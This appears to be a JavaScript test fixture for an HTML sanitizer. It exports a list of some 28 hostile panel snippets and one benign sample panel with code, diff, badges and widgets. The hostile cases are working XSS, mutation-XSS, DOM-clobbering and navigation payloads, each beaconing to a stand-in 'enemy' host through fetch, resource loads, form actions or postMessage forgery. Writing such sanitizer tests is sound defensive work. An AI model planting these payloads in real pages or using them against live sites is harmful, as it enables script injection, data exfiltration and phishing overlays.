// HTML of panels: hostile and harmless.

/**
 * Each case tries to reach the enemy, to open a page or a dialog, or to leave its place. The third value says whether it
 * reaches the enemy by itself or by a click if there is no protection.
 */
export const cases = (enemy) => [
  ['script', `<script>fetch('${enemy}/1')</script><script src="${enemy}/1.js"></script>`, true],
  ['img onerror', `<img src="x:" onerror="fetch('${enemy}/2')">`, true],
  ['svg onload and script', `<svg onload="fetch('${enemy}/3')"><script>fetch('${enemy}/3b')</script></svg>`, true],
  ['javascript: link', `<a href="javascript:fetch('${enemy}/4')">Click</a><a href="java&#10;script:fetch('${enemy}/4b')">Click</a>`, true],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${enemy}/5">`, true],
  ['form action', `<form action="${enemy}/6" method="post"><input name="a"><button>Send</button></form><button form="f" formaction="${enemy}/6b">Send</button>`, true],
  ['base and relative image', `<base href="${enemy}/7/"><img src="pixel.png"><a href="page">Click</a>`, true],
  ['iframe src', `<iframe src="${enemy}/8"></iframe>`, true],
  ['iframe srcdoc', `<iframe srcdoc="<img src='${enemy}/9'><script>parent.location='${enemy}/9b'</script>"></iframe>`, true],
  ['object and embed', `<object data="${enemy}/10"></object><embed src="${enemy}/10b">`, true],
  ['style with @import and url', `<style>@import '${enemy}/11.css'; body { background: url(${enemy}/11b) }</style>`, true],
  ['style attribute and overlay', `<div style="position:fixed;inset:0;background:url(${enemy}/12)">Log in again</div>`, true],
  ['link stylesheet, prefetch, preconnect', `<link rel="stylesheet" href="${enemy}/13.css"><link rel="prefetch" href="${enemy}/13b"><link rel="preconnect" href="${enemy}">`, true],
  ['remote img, srcset, picture', `<img src="${enemy}/14"><img srcset="${enemy}/14b 1x"><picture><source srcset="${enemy}/14c"><img></picture><input type="image" src="${enemy}/14d">`, true],
  ['video, audio, poster', `<video src="${enemy}/15" poster="${enemy}/15b" autoplay></video><audio src="${enemy}/15c" autoplay></audio><video><track src="${enemy}/15d" default></video>`, true],
  ['mutation by math, mglyph, style', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('${enemy}/16')&gt;">`, false],
  ['mutation by form and math', `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="fetch('${enemy}/17')">`, false],
  ['mutation by noscript', `<noscript><p title="</noscript><img src=x: onerror=fetch('${enemy}/18')>">`, true],
  ['template and declarative shadow root', `<template><img src="${enemy}/19"></template><div><template shadowrootmode="open"><img src="${enemy}/19b" onerror="fetch('${enemy}/19c')"><slot></slot></template></div>`, true],
  ['clobbering by id and name', `<form id="panel"><input name="attributes"><input name="nodeName"></form><a id="parent"></a><a id="parent" name="postMessage"></a><img name="getElementById"><a id="trustedTypes">x</a>`, false],
  ['target=_top and _blank', `<a href="${enemy}/21" target="_top">Click</a><a href="${enemy}/21b" target="_blank">Click</a>`, true],
  ['ping', `<a href="https://127.0.0.1:1/" ping="${enemy}/22">Click</a>`, false],
  ['popover with handler', `<button popovertarget="pop">Click</button><div popover id="pop" onbeforetoggle="fetch('${enemy}/23')">x</div>`, true],
  ['data: document link', `<a href="data:text/html,<script>fetch('${enemy}/24')</script>">Click</a><iframe src="data:text/html,<img src='${enemy}/24b'>"></iframe>`, true],
  ['svg use, image, foreignObject', `<svg><use href="${enemy}/25.svg#a"/><image href="${enemy}/25b"/><foreignObject><img src="${enemy}/25c"></foreignObject></svg>`, true],
  ['autofocus onfocus', `<input autofocus onfocus="fetch('${enemy}/26')"><details open ontoggle="fetch('${enemy}/26b')">x</details>`, true],
  ['speculation rules', `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${enemy}/27"]}]}</script><a href="${enemy}/27b" rel="prefetch">x</a>`, false],
  ['forged widget that posts to the parent', `<button class="c-button" data-widget="a" onclick="parent.postMessage({t:'event',widget:'forged',kind:'click',value:null},'*');fetch('${enemy}/28')">Click</button>`, true],
];

/** A panel with everything that a panel can have. */
export const walkthrough = `
<h1>How a request finds its way</h1>
<p>A message passes <strong>every proxy</strong> before the agent sees it. See
<a class="c-file" data-file="src/router.rs" data-line="41">src/router.rs:41</a> and <a href="https://example.com/docs">the notes</a>.</p>
<div class="c-row"><span class="c-badge c-ok">3 steps</span><span class="c-badge c-warn">1 question</span><span class="c-badge c-err">2 errors</span>
<span class="c-badge">12 files</span><span class="c-muted">Updated 12:03</span></div>
<section class="c-section"><h2>1. The request arrives</h2><p>Ids are <code>u64</code>. <kbd>Ctrl</kbd> + <kbd>C</kbd> ends it.</p>
<pre class="c-code" data-language="rust"><code>/// Routes one request.
pub fn route(&amp;mut self, request: Request) -&gt; Result&lt;Seat, Error&gt; {
    let id = self.next_id(); // unique
    Err(Error::new("no such seat", 404))
}</code></pre></section>
<section class="c-section"><h2>2. What changed</h2>
<pre class="c-diff"><code>--- a/src/seat.rs
+++ b/src/seat.rs
@@ -10,3 +10,4 @@ impl Seat
 fn open(&amp;self) {
-    self.send(Hello);
+    self.send(Hello { version: 1 });
+    self.flush();</code></pre>
<table><thead><tr><th>Component</th><th>Kind</th></tr></thead><tbody><tr><td>brief</td><td>proxy</td></tr></tbody></table>
<div class="c-card c-warn"><h4>Careful here</h4><p>A reply can come before the request.</p></div></section>
<section class="c-section"><h2>3. The path as a picture</h2>
<pre class="c-mermaid"><code>flowchart LR
  E[Editor] --&gt; C{Conductor}
  C --&gt; A[(Agent)]</code></pre></section>
<section class="c-section"><h2>Your turn</h2>
<details class="c-collapsible" data-widget="more"><summary>What happens on an error?</summary><p>It travels back.</p></details>
<div class="c-choice" data-widget="level"><button data-value="short">Shorter</button><button data-value="deep">More detail</button></div>
<p><label>Language <select class="c-choice" data-widget="lang"><option value="rs">Rust</option><option value="ts">TypeScript</option></select></label></p>
<input class="c-input" data-widget="ask" placeholder="Ask about this step">
<textarea class="c-input" data-widget="note" placeholder="Leave a note"></textarea>
<div class="c-row"><button class="c-button" data-widget="next" data-value="4">Next step</button>
<button class="c-button c-muted" data-widget="skip">Skip</button></div>
<img src="https://example.com/pixel.png" alt="Logo">
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="Dot" width="8" height="8">
</section>`;
